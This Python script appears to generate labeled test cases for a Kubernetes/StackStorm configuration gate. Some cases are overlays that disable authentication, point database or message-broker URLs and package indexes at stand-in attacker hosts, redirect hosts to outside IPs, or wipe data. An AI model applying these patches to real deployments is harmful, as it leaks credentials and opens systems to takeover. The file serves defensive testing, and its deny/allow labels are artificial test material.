#!/usr/bin/env python3
"""Generate red12 cases. Run from /work/red12: python3 gen/gen.py"""
import os, shutil, json, textwrap
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CASES = os.path.join(ROOT, 'cases')
shutil.rmtree(CASES, ignore_errors=True)
os.makedirs(CASES)
V = []; P = []
USERCONF = "# Operator overrides (the chart's st2.config value). Highest priority.\n[api]\nallow_origin = '*'\n"

def y(s): return json.dumps(s)

def jp(kind, name, ops, group=None):
    t = {'kind': kind, 'name': name}
    if group: t['group'] = group
    return {'target': t, 'patch': json.dumps(ops)}

def userconf(extra):
    return jp('ConfigMap', 'st2-config', [{'op': 'replace', 'path': '/data/st2.user.conf', 'value': USERCONF + extra}])

def dep(name, ops): return jp('Deployment', name, ops, 'apps')
def sts(name, ops): return jp('StatefulSet', name, ops, 'apps')

def case(cid, exp, cls, reason, env='prod', patches=(), resources=(), files=None, raw=None, planted=None, extra=None):
    d = os.path.join(CASES, cid); os.makedirs(d)
    if raw is not None:
        open(os.path.join(d, 'kustomization.yaml'), 'w').write(raw)
    else:
        k = {'apiVersion': 'kustomize.config.k8s.io/v1beta1', 'kind': 'Kustomization', 'resources': ['../../' + env]}
        for i, r in enumerate(resources):
            fn = f'extra-{i}.yaml'; open(os.path.join(d, fn), 'w').write(textwrap.dedent(r).lstrip()); k['resources'].append(fn)
        if patches: k['patches'] = list(patches)
        if extra: k.update(extra)
        open(os.path.join(d, 'kustomization.yaml'), 'w').write(json.dumps(k, indent=1) + '\n')
    for fn, txt in (files or {}).items():
        os.makedirs(os.path.dirname(os.path.join(d, fn)), exist_ok=True)
        open(os.path.join(d, fn), 'w').write(txt)
    V.append((cid, exp, cls, reason))
    if planted: P.append((cid, planted))

U, A, B = 'deny', 'allow', 'bad-input'
RES = {'requests': {'cpu': '10m', 'memory': '32Mi'}, 'limits': {'cpu': '200m', 'memory': '256Mi'}}
RESY = "\n            resources: {requests: {cpu: 10m, memory: 32Mi}, limits: {cpu: 200m, memory: 256Mi}}"
# ---------------------------------------------------------------- st2 config semantics (unsafe)
case('cfg-auth-mode-proxy', U, 'st2-auth', "[auth] mode=proxy: st2auth trusts the REMOTE_USER the web server sets (st2docs authentication.rst: proxy mode); behind st2web/Ingress with no proxy auth anyone gets a token for any user", patches=[userconf("\n[auth]\nmode = proxy\n")])
case('cfg-auth-off-word', U, 'st2-auth', "[auth] enable = off: oslo.config BoolOpt accepts off/no/0 as False (oslo_config types.Boolean); st2api then serves every endpoint unauthenticated", patches=[userconf("\n[auth]\nenable = off\n")])
case('cfg-auth-off-0', U, 'st2-auth', "[auth] enable = 0 is False to oslo.config's Boolean type: st2 API without authentication", patches=[userconf("\n[AUTH]\nenable=0\n")])
case('cfg-rbac-noop-backend', U, 'st2-rbac', "[rbac] backend = noop: st2's NoOpRBACBackend permits every request (st2common rbac backends noop) so RBAC roles are stored but never enforced", patches=[userconf("\n[rbac]\nbackend = noop\n")])
case('cfg-rbac-enable-no', U, 'st2-rbac', "[rbac] enable = no (oslo Boolean false): every authenticated user is effectively admin", patches=[userconf("\n[rbac]\nenable = no\n")])
case('cfg-api-mask-secrets-off', U, 'secret-exposure', "[api] mask_secrets = False: st2api returns secret:true action parameters and datastore values unmasked to every user (st2docs secrets_masking.rst)", patches=[userconf("mask_secrets = False\n")])
case('cfg-log-mask-secrets-off', U, 'secret-exposure', "[log] mask_secrets = False: passwords/tokens written in clear to every st2 service log shipped off the pod (st2docs secrets_masking.rst)", patches=[userconf("\n[log]\nmask_secrets = False\n")])
case('cfg-db-name-new', U, 'data-loss', "[database] db_name = st2_v2: every st2 service opens an empty database; rules, kv store, execution history silently vanish (st2 config database.db_name, default st2)", patches=[userconf("\n[database]\ndb_name = st2_v2\n")])
case('cfg-db-host-external', U, 'secret-sent-out', "[database] host overridden in st2.user.conf (read after st2.docker.conf by oslo.config --config-file order) to an outside host: st2 sends the MongoDB username/password from st2.secrets.conf to it", patches=[userconf("\n[database]\nhost = mongodb://db.attacker.example.net:27017/?authSource=admin\n")])
case('cfg-db-host-single-member', U, 'store-ha', "[database] host names only mongodb-0 without replicaSet=rs0: pymongo connects directly to one member; when it is secondary writes fail and failover never reaches st2 (MongoDB connection string docs: directConnection without replicaSet)", patches=[userconf("\n[database]\nhost = mongodb://mongodb-0.mongodb:27017/?authSource=admin\n")])
case('cfg-messaging-cluster-urls-out', U, 'secret-sent-out', "[messaging] cluster_urls takes precedence over url (st2common transport utils get_messaging_urls): all st2 messages, including action parameters, go to an outside broker", patches=[userconf("\n[messaging]\ncluster_urls = amqp://st2:st2@mq.attacker.example.net:5672\n")])
case('cfg-coord-zake', U, 'coordination', "[coordination] url = zake://: tooz's in-memory driver is per process, so locks are not shared between the 3 schedulers/workflowengines (tooz drivers: zake is for tests)", patches=[userconf("\n[coordination]\nurl = zake://\n")])
case('cfg-coord-file', U, 'coordination', "[coordination] url = file:///tmp/st2-locks: tooz file driver locks on a pod-local path, no cross-pod mutual exclusion for 3 st2scheduler replicas: duplicate executions", patches=[userconf("\n[coordination]\nurl = file:///tmp/st2-locks\n")])
case('cfg-coord-empty', U, 'coordination', "[coordination] url empty: st2 falls back to its NoOp coordinator (st2common services coordination: no backend configured) with replicated schedulers/workflowengines", patches=[userconf("\n[coordination]\nurl =\n")])
case('cfg-coord-redis-missing', U, 'coordination', "[coordination] url = redis://redis:6379: no redis runs in the render; st2 services fail to acquire locks / crash on coordinator start", patches=[userconf("\n[coordination]\nurl = redis://redis:6379\n")])
case('cfg-kv-key-path-missing', U, 'crash', "[keyvalue] encryption_key_path to a path not mounted: st2 fails to read the key; encrypted datastore values can't be decrypted (st2docs datastore.rst)", patches=[userconf("\n[keyvalue]\nencryption_key_path = /etc/st2/keys/missing.json\n")])
case('cfg-content-index-url', U, 'supply-chain', "[content] index_url pointing at an attacker pack index: `st2 pack install` resolves pack names to the attacker's git repos (st2 config content.index_url)", patches=[userconf("\n[content]\nindex_url = https://packs.attacker.example.net/v1/index.json\n")])
case('cfg-pip-opts-index', U, 'supply-chain', "[actionrunner] pip_opts = --index-url attacker: pack virtualenv dependencies installed from an attacker PyPI (st2 config actionrunner.pip_opts)", patches=[userconf("\n[actionrunner]\npip_opts = --index-url=https://pypi.attacker.example.net/simple,--trusted-host=pypi.attacker.example.net\n")])
case('cfg-token-ttl-decade', U, 'st2-auth', "[auth] token_ttl = 315360000 (10 years): every st2 login token (kept in browsers, ~/.st2/token) stays valid a decade, and the cap on user-requested TTLs rises with it (st2 auth.token_ttl default 86400)", patches=[userconf("\n[auth]\ntoken_ttl = 315360000\n")])
case('cfg-system-debug', U, 'secret-exposure', "[system] debug = True in production: every st2 service logs at DEBUG (st2common service_setup sets DEBUG when system.debug), including action parameters and API request bodies not on the mask list", patches=[userconf("\n[system]\ndebug = True\n")])
case('cfg-messaging-url-in-user', U, 'secret-sent-out', "[messaging] url in st2.user.conf to outside broker + st2.secrets.conf overwritten by patch removing its [messaging] section; st2 connects out", patches=[userconf("\n[messaging]\nurl = amqp://admin:x@mq.attacker.example.net:5672\n"), jp('ExternalSecret', 'st2-config-secrets', [{'op': 'replace', 'path': '/spec/target/template/data/st2.secrets.conf', 'value': "[database]\nusername = {{ .mongodbUser }}\npassword = {{ .mongodbPassword }}\n"}], 'external-secrets.io')])
case('cfg-stream-external', U, 'st2-auth', "[auth] api_url to outside host: st2auth tells clients to send their tokens to that URL (st2 auth.api_url is returned to clients)", patches=[userconf("\n[auth]\napi_url = https://st2api.attacker.example.net/\n")])
case('cfg-secrets-template-out', U, 'secret-sent-out', "ExternalSecret template writes the RabbitMQ password into an amqp URL at an outside host: st2 sends it there", patches=[jp('ExternalSecret', 'st2-config-secrets', [{'op': 'replace', 'path': '/spec/target/template/data/st2.secrets.conf', 'value': "[messaging]\nurl = amqp://admin:{{ .rabbitmqPassword | urlquery }}@rabbitmq.attacker.example.net:5672\n\n[database]\nusername = {{ .mongodbUser }}\npassword = {{ .mongodbPassword }}\n"}], 'external-secrets.io')])
case('cfg-secrets-template-cm', U, 'secret-exposure', "ExternalSecret st2-config-secrets given target.manifest ConfigMap (ESO generic targets, enabled by --unsafe-allow-generic-targets): the MongoDB and RabbitMQ passwords land in a ConfigMap, unencrypted and readable by view (external-secrets.io targeting-custom-resources warns of exactly this)", patches=[jp('ExternalSecret', 'st2-config-secrets', [{'op': 'add', 'path': '/spec/target/manifest', 'value': {'apiVersion': 'v1', 'kind': 'ConfigMap'}}], 'external-secrets.io')])
case('cfg-docker-conf-crlf-auth', U, 'st2-auth', "st2.docker.conf gets an [auth] enable=False line with CRLF and section in capitals: oslo.config/iniparser reads it (section names case-insensitive per gate's own note) -> no auth", patches=[jp('ConfigMap', 'st2-config', [{'op': 'replace', 'path': '/data/st2.docker.conf', 'value': "[auth]\r\napi_url = http://st2api:9101/\r\nenable = False\r\n\r\n[coordination]\r\nurl = etcd://etcd:2379\r\n\r\n[keyvalue]\r\nencryption_key_path = /etc/st2/keys/datastore_key.json\r\n\r\n[rbac]\r\nenable = True\r\nbackend = default\r\n\r\n[database]\r\nhost = mongodb://mongodb-0.mongodb:27017,mongodb-1.mongodb:27017,mongodb-2.mongodb:27017/?authSource=admin&replicaSet=rs0\r\n"}])])
case('cfg-extra-config-file-arg', U, 'st2-auth', "st2api gets a fifth --config-file from a new ConfigMap disabling auth; oslo.config lets a later file override earlier ones", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-file=/etc/st2/extra/override.conf'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'extra', 'mountPath': '/etc/st2/extra'}}, {'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'extra', 'configMap': {'name': 'st2-extra'}}}])], resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: st2-extra
data:
  override.conf: |
    [auth]
    enable = false
"""])
case('cfg-config-dir-arg', U, 'st2-auth', "--config-dir=/etc/st2/conf.d reads every *.conf in the dir (oslo.config --config-dir) after the files; a mounted conf turns RBAC off", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-dir=/etc/st2/conf.d'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'confd', 'mountPath': '/etc/st2/conf.d'}}, {'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'confd', 'configMap': {'name': 'st2-confd'}}}])], resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: st2-confd
data:
  99-rbac.conf: |
    [rbac]
    enable = False
"""])
case('cfg-env-st2-auth-off', U, 'st2-auth', "st2api's command becomes a shell that writes [auth] enable = False to /tmp/z.conf and passes it as the last --config-file: oslo.config lets the last file win, so the API runs without authentication", patches=[dep('st2api', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['sh', '-c', "printf '[auth]\\nenable = False\\n' > /tmp/z.conf && exec /opt/stackstorm/st2/bin/st2api --config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.user.conf --config-file=/etc/st2/st2.secrets.conf --config-file=/tmp/z.conf"]}, {'op': 'remove', 'path': '/spec/template/spec/containers/0/args'}])])
case('ok-cfg-auth-flatfile-restated', A, 'bait', "[auth] backend = flat_file with file_path /etc/st2/htpasswd restates the image's st2.conf: base/st2auth.yaml mounts the generated htpasswd exactly there (st2auth flat_file backend)", patches=[userconf("\n[auth]\nbackend = flat_file\nbackend_kwargs = {\"file_path\": \"/etc/st2/htpasswd\"}\n")])
case('cfg-auth-section-capital', U, 'st2-auth', "[Auth] enable = False: oslo.config lowercases group names other than DEFAULT (oslo_config cfg _normalize_group_name), so this is [auth] and the st2 API runs without authentication", patches=[userconf("\n[Auth]\nenable = False\n")])

# ---------------------------------------------------------------- stores (unsafe)
case('mongo-transition-to-auth', U, 'store-auth', "mongod --transitionToAuth accepts authenticated and non-authenticated connections: clients can read/write/admin any database (MongoDB manual, enforce keyfile access control without downtime)", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--transitionToAuth'}])])
case('mongo-nojournal', U, 'crash', "mongod --nojournal: since 4.0 WiredTiger replica-set members refuse to start with journaling off (MongoDB manual storage.journal.enabled) -> crash loop", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--nojournal'}])])
case('mongo-replset-rs1', U, 'crash', "mongod --replSet rs1 while st2's URI and init script say rs0: replSetInitiate of rs0 fails and st2 can't find set rs0 (pymongo replicaSet name must match)", patches=[sts('mongodb', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/args/1', 'value': 'rs1'}])])
case('mongo-pvc-retention-delete', U, 'data-loss', "persistentVolumeClaimRetentionPolicy whenDeleted/whenScaled Delete: an Argo CD replace/prune of the StatefulSet deletes MongoDB's PVCs (Kubernetes StatefulSet API: Delete policy deletes PVCs)", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/persistentVolumeClaimRetentionPolicy', 'value': {'whenDeleted': 'Delete', 'whenScaled': 'Delete'}}])])
case('etcd-pvc-retention-delete', U, 'data-loss', "etcd StatefulSet PVC retention Delete: deleting/recreating the StatefulSet wipes etcd members' data and the cluster must re-bootstrap", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/persistentVolumeClaimRetentionPolicy', 'value': {'whenDeleted': 'Delete', 'whenScaled': 'Delete'}}])])
case('mongo-memory-tiny', U, 'crash', "MongoDB limit 64Mi: mongod's WiredTiger cache (min 256MB) gets OOM-killed in a loop (MongoDB manual wiredTigerCacheSizeGB)", patches=[sts('mongodb', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/resources', 'value': {'requests': {'memory': '32Mi', 'cpu': '100m'}, 'limits': {'memory': '64Mi', 'cpu': '500m'}}}])])
case('mongo-bind-localhost', U, 'crash', "mongod --bind_ip localhost: other members and st2 can't reach it; replica set never forms (MongoDB manual net.bindIp)", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--bind_ip=127.0.0.1'}])])
case('mongo-keyfile-missing-path', U, 'crash', "--keyFile /tmp/nokey while the install-keyfile init container writes /data/configdb/key.txt: mongod cannot read the keyfile and exits at startup on all 3 members (MongoDB security.keyFile: the file must exist and be readable) -> store crash-loop, st2 down", patches=[sts('mongodb', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/args/3', 'value': '/tmp/nokey'}])])
case('etcd-force-new-cluster', U, 'store-ha', "etcd --force-new-cluster: each member on restart discards its peers and forms a one-member cluster (etcd docs: force-new-cluster), 3 diverging 'clusters'", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--force-new-cluster=true'}])])
case('etcd-unsafe-no-fsync', U, 'data-loss', "etcd --unsafe-no-fsync: writes not fsynced, a simultaneous pod loss loses acknowledged coordination state (etcd PR 12751)", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--unsafe-no-fsync'}])])
case('etcd-quota-tiny', U, 'crash', "etcd --quota-backend-bytes=16384: NOSPACE alarm almost at once; etcd refuses writes, st2 locks fail (etcd docs: space quota)", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--quota-backend-bytes=16384'}])])
case('etcd-v2-off-late-flag', U, 'coordination', "A second --enable-v2=false after --enable-v2=true: Go flag parsing keeps the last value, so the v2 API tooz's etcd driver needs answers 404", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--enable-v2=false'}])])
case('etcd-token-mismatch', U, 'store-ha', "etcd --initial-cluster-state=existing on a fresh cluster: members try to join a cluster that does not exist and never bootstrap (etcd clustering docs: 'existing' only for joining a running cluster)", patches=[sts('etcd', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/8', 'value': '--initial-cluster-state=existing'}])])
case('etcd-listen-localhost', U, 'coordination', "etcd --listen-client-urls=http://127.0.0.1:2379 later flag wins: st2 pods can't reach etcd -> coordination failure", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--listen-client-urls=http://127.0.0.1:2379'}])])
case('rabbit-partition-ignore', U, 'store-ha', "cluster_partition_handling = ignore: on a partition both halves keep running, messages diverge and are lost on heal (RabbitMQ partitions docs)", patches=[jp('ConfigMap', 'rabbitmq-config', [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': "cluster_formation.peer_discovery_backend = rabbit_peer_discovery_classic_config\ncluster_formation.classic_config.nodes.1 = rabbit@rabbitmq-0.rabbitmq-discovery\ncluster_formation.classic_config.nodes.2 = rabbit@rabbitmq-1.rabbitmq-discovery\ncluster_formation.classic_config.nodes.3 = rabbit@rabbitmq-2.rabbitmq-discovery\nqueue_master_locator = min-masters\nloopback_users.guest = false\ncluster_partition_handling = ignore\nload_definitions = /etc/rabbitmq/definitions.json\n"}])])
case('rabbit-no-peers', U, 'store-ha', "rabbitmq.conf without the classic_config peer list: each pod boots as its own one-node cluster; st2 services on different nodes never see each other's messages", patches=[jp('ConfigMap', 'rabbitmq-config', [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': "queue_master_locator = min-masters\nloopback_users.guest = false\ncluster_partition_handling = pause_minority\nload_definitions = /etc/rabbitmq/definitions.json\n"}])])
case('rabbit-loopback-guest-default', U, 'store-auth', "definitions loaded but RABBITMQ_DEFAULT_USER=guest / PASS=guest with loopback_users.guest=false: the published guest/guest login works from any pod (RabbitMQ access-control docs)", patches=[sts('rabbitmq', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/env/2', 'value': {'name': 'RABBITMQ_DEFAULT_USER', 'value': 'guest'}}, {'op': 'replace', 'path': '/spec/template/spec/containers/0/env/3', 'value': {'name': 'RABBITMQ_DEFAULT_PASS', 'value': 'guest'}}])])
case('rabbit-memory-watermark-0', U, 'crash', "vm_memory_high_watermark.relative = 0: RabbitMQ blocks all publishers forever (RabbitMQ memory alarms), st2 stalls", patches=[jp('ConfigMap', 'rabbitmq-config', [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': "cluster_formation.peer_discovery_backend = rabbit_peer_discovery_classic_config\ncluster_formation.classic_config.nodes.1 = rabbit@rabbitmq-0.rabbitmq-discovery\ncluster_formation.classic_config.nodes.2 = rabbit@rabbitmq-1.rabbitmq-discovery\ncluster_formation.classic_config.nodes.3 = rabbit@rabbitmq-2.rabbitmq-discovery\nqueue_master_locator = min-masters\nloopback_users.guest = false\ncluster_partition_handling = pause_minority\nload_definitions = /etc/rabbitmq/definitions.json\nvm_memory_high_watermark.relative = 0\n"}])])
case('rabbit-disk-free-huge', U, 'crash', "disk_free_limit.absolute = 1000GB: disk alarm at once, every publisher blocked (RabbitMQ disk alarms)", patches=[jp('ConfigMap', 'rabbitmq-config', [{'op': 'add', 'path': '/data/advanced.config', 'value': "[{rabbit, [{disk_free_limit, 1000000000000}]}].\n"}])])

# ---------------------------------------------------------------- k8s availability / sync (unsafe)
case('es-wave-after-workloads', U, 'argocd-sync', "ExternalSecrets moved to sync-wave 50 while Deployments (wave 0) mount their Secrets: Argo CD waits for wave 0 to be healthy, pods never start (secret missing), sync never reaches wave 50", patches=[{'target': {'group': 'external-secrets.io', 'kind': 'ExternalSecret'}, 'patch': json.dumps([{'op': 'replace', 'path': '/metadata/annotations/argocd.argoproj.io~1sync-wave', 'value': '50'}])}])
case('deploy-paused', U, 'argocd-sync', "spec.paused: true on st2api: the Deployment controller never rolls out new config/images; Argo CD shows Suspended forever (Kubernetes Deployment paused)", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/paused', 'value': True}])])
case('st2api-svc-selector-stream', U, 'outage', "Service st2api selects app=st2stream pods: every API call lands on st2stream's port (9101 closed) -> st2 API down (Service selector semantics)", patches=[jp('Service', 'st2api', [{'op': 'replace', 'path': '/spec/selector/app', 'value': 'st2stream'}])])
case('st2api-svc-targetport', U, 'outage', "Service st2api targetPort 9999: nothing listens there, every st2 client call to st2api:9101 is refused", patches=[jp('Service', 'st2api', [{'op': 'add', 'path': '/spec/ports/0/targetPort', 'value': 9999}])])
case('mongodb-svc-selector-typo', U, 'outage', "Service mongodb (headless, gives mongodb-N.mongodb DNS) selector typo: no endpoints, pod DNS names vanish, st2 can't reach MongoDB", patches=[jp('Service', 'mongodb', [{'op': 'replace', 'path': '/spec/selector/app', 'value': 'mongo-db'}])])
case('st2api-readiness-bad-port', U, 'outage', "readinessProbe on a port nothing listens on: pods never Ready, st2api Service has no endpoints", patches=[dep('st2api', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/readinessProbe/tcpSocket/port', 'value': 1}])])
case('st2api-liveness-false', U, 'crash', "livenessProbe exec /bin/false: kubelet kills st2api every 20s -> CrashLoopBackOff", patches=[dep('st2api', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/livenessProbe', 'value': {'exec': {'command': ['/bin/false']}, 'periodSeconds': 5, 'failureThreshold': 1}}])])
case('st2api-maxunavail-100', U, 'outage', "RollingUpdate maxUnavailable 100%: every rollout kills all st2api pods at once (Deployment strategy)", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxUnavailable': '100%', 'maxSurge': 0}}}])])
case('st2api-recreate', U, 'outage', "strategy Recreate on st2api with 3 replicas: every config change is a full API outage (Deployment Recreate kills all before creating)", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/strategy', 'value': {'type': 'Recreate'}}])])
case('timers-pdb-block', U, 'ops-drain', "PDB minAvailable 1 over the single st2timersengine pod: node drains can never evict it (Kubernetes disruptions: allowed disruptions 0)", resources=["""
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata:
  name: st2timersengine
spec:
  minAvailable: 1
  selector:
    matchLabels:
      app: st2timersengine
"""])
case('mongo-pdb-maxunavail-3', U, 'store-ha', "MongoDB PDB replaced by maxUnavailable 3: a drain may evict all three members at once -> no primary", patches=[jp('PodDisruptionBudget', 'mongodb', [{'op': 'replace', 'path': '/spec', 'value': {'maxUnavailable': 3, 'selector': {'matchLabels': {'app': 'mongodb'}}}}], 'policy')])
case('st2api-nodeselector-nowhere', U, 'outage', "nodeSelector on a label no node has: st2api pods Pending forever", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/nodeSelector', 'value': {'node.kubernetes.io/st2-api-pool-does-not-exist': 'true'}}])])
case('scheduler-hpa-zero', U, 'singleton', "HPA on st2timersengine with minReplicas 2: the autoscaler runs two timer engines, every timer fires twice (st2 HA docs: st2timersengine runs once)", resources=["""
apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: st2timersengine
spec:
  scaleTargetRef:
    apiVersion: apps/v1
    kind: Deployment
    name: st2timersengine
  minReplicas: 2
  maxReplicas: 4
  metrics:
  - type: Resource
    resource:
      name: cpu
      target:
        type: Utilization
        averageUtilization: 80
"""])
case('timers-second-deploy-renamed', U, 'singleton', "a second Deployment 'timers-canary' running st2timersengine image + binary: two timer engines fire every timer twice (st2 HA docs: st2timersengine single instance)", resources=["""
apiVersion: apps/v1
kind: Deployment
metadata:
  name: timers-canary
spec:
  replicas: 1
  selector:
    matchLabels: {app: timers-canary}
  template:
    metadata:
      labels: {app: timers-canary}
    spec:
      containers:
      - name: t
        image: stackstorm/st2timersengine:3.8.1
        command: [/opt/stackstorm/st2/bin/st2timersengine]
        args: [--config-file=/etc/st2/st2.conf, --config-file=/etc/st2/st2.docker.conf]
        resources: {requests: {cpu: 10m, memory: 32Mi}, limits: {cpu: 200m, memory: 256Mi}}
"""])
case('sensor-in-actionrunner-sidecar', U, 'singleton', "st2sensorcontainer started as a second container in st2actionrunner (8 replicas): every sensor runs 9 times, triggers duplicated", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/-', 'value': {'resources': RES, 'name': 'sensors', 'image': 'stackstorm/st2sensorcontainer:3.8.1', 'command': ['/opt/stackstorm/st2/bin/st2sensorcontainer'], 'args': ['--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.docker.conf', '--config-file=/etc/st2/st2.user.conf', '--config-file=/etc/st2/st2.secrets.conf']}}])])
case('timers-via-shell-var', U, 'singleton', "st2garbagecollector's command becomes a shell that also starts /opt/stackstorm/st2/bin/st2${T}engine (T=timers) in background: a second st2timersengine fires every timer twice (st2 HA docs: st2timersengine must run once)", patches=[dep('st2garbagecollector', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['/bin/sh', '-c', 'T=timers; /opt/stackstorm/st2/bin/st2${T}engine "$@" & exec /opt/stackstorm/st2/bin/st2garbagecollector "$@"', '--']}])])
case('timers-via-python-import', U, 'singleton', "st2notifier's container also runs `python -c 'from st2reactor.cmd import timersengine; timersengine.main()'` in background (st2reactor/cmd/timersengine.py main is what bin/st2timersengine calls): second timers engine", patches=[dep('st2notifier', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['/bin/sh', '-c', '/opt/stackstorm/st2/bin/python -c "from st2reactor.cmd import timersengine as t; t.main()" "$@" & exec /opt/stackstorm/st2/bin/st2notifier "$@"', '--']}])])
case('timers-statefulset-2', U, 'singleton', "kustomize replicas: st2timersengine count 2: two timer engines fire every timer twice (st2 HA docs)", extra={'replicas': [{'name': 'st2timersengine', 'count': 2}]})
case('timers-replicas-regex-patch', U, 'singleton', "regex target 'st2(timers|rules)engine' scales both to 3: timersengine triplicated", patches=[{'target': {'kind': 'Deployment', 'name': 'st2(timers|rules)engine'}, 'patch': json.dumps([{'op': 'replace', 'path': '/spec/replicas', 'value': 3}])}])

# ---------------------------------------------------------------- exposure (unsafe)
case('st2api-hostport', U, 'exposure', "hostPort 9101 on st2api: the API answers on every node's IP, bypassing Ingress TLS and any NetworkPolicy (Kubernetes hostPort)", patches=[dep('st2api', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/ports/0', 'value': {'containerPort': 9101, 'hostPort': 9101, 'name': 'http'}}])])
case('mongo-hostport', U, 'exposure', "hostPort 27017 on MongoDB: the store is reachable on every node IP from outside the cluster network", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/template/spec/containers/0/ports', 'value': [{'containerPort': 27017, 'hostPort': 27017}]}])])
case('rabbit-hostnetwork', U, 'exposure', "hostNetwork: true on RabbitMQ (no privileged): AMQP 5672, management 15672 and epmd/dist 25672 listen on node IPs; with the Erlang cookie that is remote code execution surface", patches=[sts('rabbitmq', [{'op': 'add', 'path': '/spec/template/spec/hostNetwork', 'value': True}])])
case('st2auth-externalips', U, 'exposure', "Service st2auth with externalIPs: kube-proxy routes that public IP to st2auth (Kubernetes Service externalIPs)", patches=[jp('Service', 'st2auth', [{'op': 'add', 'path': '/spec/externalIPs', 'value': ['203.0.113.10']}])])
case('etcd-lb', U, 'exposure', "etcd Service type LoadBalancer: unauthenticated etcd v2 API (no --client-cert-auth) on the internet: anyone can take/release st2's locks", patches=[jp('Service', 'etcd', [{'op': 'add', 'path': '/spec/type', 'value': 'LoadBalancer'}])])
case('ingress-rabbit-mgmt', U, 'exposure', "Ingress path /rabbitmq to the RabbitMQ management UI (15672): admin console on the public host", patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/spec/rules/0/http/paths/-', 'value': {'path': '/rabbitmq', 'pathType': 'Prefix', 'backend': {'service': {'name': 'rabbitmq', 'port': {'number': 15672}}}}}], 'networking.k8s.io')])
case('ingress-second-host-noauth', U, 'exposure', "Ingress rule for st2api directly on a second host without TLS: tokens and passwords sent in clear over HTTP", patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/spec/rules/-', 'value': {'host': 'api.st2.example.com', 'http': {'paths': [{'path': '/', 'pathType': 'Prefix', 'backend': {'service': {'name': 'st2api', 'port': {'number': 9101}}}}]}}}], 'networking.k8s.io')])
case('etcd-ingress-grpc', U, 'exposure', "separate Ingress routing etcd.example.com to the etcd client port: locks and anything st2 stores in etcd open to the internet", resources=["""
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: etcd-admin
spec:
  ingressClassName: nginx
  rules:
  - host: etcd.example.com
    http:
      paths:
      - path: /
        pathType: Prefix
        backend:
          service:
            name: etcd
            port:
              number: 2379
"""])
case('st2stream-nodeport-staging', U, 'exposure', "staging st2stream as NodePort: event stream incl. execution output reachable on every node", env='staging', patches=[jp('Service', 'st2stream', [{'op': 'add', 'path': '/spec/type', 'value': 'NodePort'}])])
case('gateway-httproute-mongo', U, 'exposure', "Gateway API TCPRoute exposing mongodb:27017 via a shared public Gateway", resources=["""
apiVersion: gateway.networking.k8s.io/v1alpha2
kind: TCPRoute
metadata:
  name: mongo
spec:
  parentRefs:
  - name: public-gw
    namespace: gateway-system
    sectionName: tcp-27017
  rules:
  - backendRefs:
    - name: mongodb
      port: 27017
"""])

# ---------------------------------------------------------------- secret exfil / egress (unsafe)
case('hostalias-rabbit-out', U, 'secret-sent-out', "hostAliases maps 'rabbitmq' to 198.51.100.7 in st2api pods: /etc/hosts wins over cluster DNS, st2api sends the RabbitMQ admin password to an outside IP (Kubernetes hostAliases)", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '198.51.100.7', 'hostnames': ['rabbitmq']}]}])])
